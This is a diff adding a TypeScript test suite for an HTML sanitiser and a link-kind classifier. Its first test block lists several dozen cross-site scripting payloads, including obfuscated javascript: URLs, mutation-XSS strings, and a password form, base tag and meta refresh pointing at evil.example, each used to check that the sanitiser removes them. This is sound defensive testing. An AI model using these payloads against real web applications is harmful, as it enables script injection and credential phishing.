@@ -1,0 +1,127 @@
+import { linkKind, sanitise, type LinkKind } from "./sanitise";
+
+/** What is left of HTML, as a document: markup that runs code or leaves the text is found in any spelling. */
+function left(html: string): HTMLElement {
+  const place = document.createElement("div");
+  place.innerHTML = sanitise(html);
+  return place;
+}
+
+const allowedAttributes = ["href", "src", "alt", "title", "lang", "dir", "colspan", "rowspan", "scope", "start"];
+
+function expectHarmless(place: HTMLElement): void {
+  expect(place.querySelector("script,style,iframe,object,embed,form,input,button,svg,math,link,meta,base,template,video,audio")).toBeNull();
+  for (const element of place.querySelectorAll("*")) {
+    for (const { name, value } of element.attributes) {
+      expect(allowedAttributes).toContain(name);
+      if (name === "href" || name === "src")
+        expect(new URL(value, location.href).protocol).toMatch(/^(https?|tel|mailto):$/);
+    }
+  }
+}
+
+describe("sanitise", () => {
+  it.each([
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)></svg>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
+    "<iframe src='javascript:alert(1)'></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data='data:text/html,<script>alert(1)</script>'></object>",
+    "<embed src='javascript:alert(1)'>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href='JaVaScRiPt:alert(1)'>x</a>",
+    "<a href=' &#14; javascript:alert(1)'>x</a>",
+    "<a href='java\tscript:alert(1)'>x</a>",
+    "<a href='java&#10;script:alert(1)'>x</a>",
+    "<a href='&#106;avascript:alert(1)'>x</a>",
+    "<a href='vbscript:x'>x</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "<a href='blob:http://localhost/1'>x</a>",
+    "<a href='file:///etc/passwd'>x</a>",
+    "<a href='ftp://example.org/'>x</a>",
+    "<a href='#' onclick='alert(1)'>x</a>",
+    "<p style='position:fixed;inset:0'>x</p>",
+    "<p class='fixed inset-0' id='main' name='config' data-x='1'>x</p>",
+    "<form action='https://evil.example/'><input name=password><button>Go</button></form>",
+    "<base href='https://evil.example/'>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<link rel=stylesheet href='https://evil.example/x.css'>",
+    "<style>*{display:none}</style>",
+    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
+    "<img src='data:image/png;base64,AAAA'>",
+    "<img srcset='https://evil.example/x 1x' src='/a.svg'>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<template><img src=x onerror=alert(1)></template>",
+    "<video><source onerror=alert(1)></video>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<a href='/app/' target=_self rel=opener ping='https://evil.example/'>x</a>",
+    "<p aria-hidden=true role=alert tabindex=0 contenteditable>x</p>",
+  ])("leaves nothing harmful of %s", (html) => {
+    expectHarmless(left(html));
+  });
+
+  it.each([
+    "<p>Text <b>bold</b> <em>stressed</em> <strong>strong</strong> <i>i</i> <u>u</u> <s>s</s></p>",
+    "<h1>1</h1><h2>2</h2><h3>3</h3><h4>4</h4><h5>5</h5><h6>6</h6>",
+    "<ul><li>a</li></ul><ol start=\"3\"><li>b</li></ol>",
+    '<table><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td colspan="2" rowspan="2">b</td></tr></tbody></table>',
+    '<p lang="sv" dir="rtl">x<br>y</p><hr><blockquote>q</blockquote><pre><code>c</code></pre>',
+    '<img src="/files/a.svg" alt="A" title="T">',
+    "H<sub>2</sub>O m<sup>2</sup> <small>s</small> <abbr title=\"a\">b</abbr>",
+  ])("keeps the markup of a text: %s", (html) => {
+    expect(sanitise(html)).toBe(html);
+  });
+
+  it.each([
+    "https://example.org/a?b=c#d",
+    "http://example.org/",
+    "//example.org/x",
+    "/app/invoices",
+    "/files/a.pdf",
+    "files/a.pdf",
+    "#chapter",
+    "?page=2",
+    "tel:+358401234567",
+    "mailto:a@example.org",
+  ])("keeps the address %s", (address) => {
+    expect(left(`<a href="${address}">x</a>`).querySelector("a")?.getAttribute("href")).toBe(address);
+  });
+
+  it("keeps the words of what it removes, except code", () => {
+    expect(left("<section><center>Hello</center></section><script>code</script>").textContent).toBe("Hello");
+  });
+
+  it("cuts what is too long to be text, and is done in good time", () => {
+    const before = performance.now();
+    expectHarmless(left("<b>".repeat(100_000)));
+    expect(left(`<p>${"a".repeat(300_000)}`).textContent?.length).toBeLessThanOrEqual(200_000);
+    expect(performance.now() - before).toBeLessThan(20_000);
+  });
+});
+
+describe("linkKind", () => {
+  it.each<[string, LinkKind]>([
+    ["/app/", "inApp"],
+    ["/app/invoices/2?x=1", "inApp"],
+    ["/app", "sameWindow"],
+    ["/application", "sameWindow"],
+    ["", "sameWindow"],
+    ["#", "sameWindow"],
+    ["#chapter", "sameWindow"],
+    ["tel:+358401234567", "sameWindow"],
+    ["TEL:112", "sameWindow"],
+    ["mailto:a@example.org", "sameWindow"],
+    ["https://example.org/", "newWindow"],
+    ["http://example.org/app/", "newWindow"],
+    ["//example.org/app/", "newWindow"],
+    ["/files/a.pdf", "newWindow"],
+    ["files/a.pdf", "newWindow"],
+    ["javascript:alert(1)", "sameWindow"],
+  ])("%s opens as %s", (address, kind) => {
+    expect(linkKind(address)).toBe(kind);
+  });
+});
